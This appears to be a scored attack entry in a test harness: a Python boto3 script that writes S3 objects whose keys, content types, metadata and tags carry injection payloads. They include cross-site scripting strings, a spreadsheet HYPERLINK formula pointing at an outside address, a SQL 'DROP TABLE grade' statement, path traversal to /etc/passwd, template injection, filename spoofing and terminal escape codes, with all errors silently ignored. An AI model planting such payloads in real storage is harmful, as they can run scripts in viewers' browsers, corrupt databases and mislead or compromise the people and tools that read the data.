# attack: 28
# does: works, and stores objects whose keys, types, metadata and tags are scripts, formulas and control characters
# run: finished
# earns: 9
# with: work
work()
import boto3

s3 = boto3.client("s3")
odd = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "=HYPERLINK(\"http://192.0.2.1\")", "@SUM(1+1)", "\u202egnp.exe", "a\x1b[2J\x07b", "[x](javascript:alert(1))", "{{7*7}}${7*7}", "a\nb\r\nc", "%00%0d%0a", "'; DROP TABLE grade; --", "../../../../etc/passwd", "é" * 300, "\x7f\u0085\u2028", "//", "<!--"]
for n, text in enumerate(odd):
    for words in ({"Key": text}, {"Key": f"{n}", "ContentType": text}, {"Key": f"m{n}", "Metadata": {"a": text}}, {"Key": f"t{n}", "Tagging": "a=<script>alert(1)</script>&b=" + str(n)}):
        try:
            s3.put_object(Bucket=given.bucket, Body=text.encode(), **words)
        except Exception:
            pass
print("\n".join(odd))
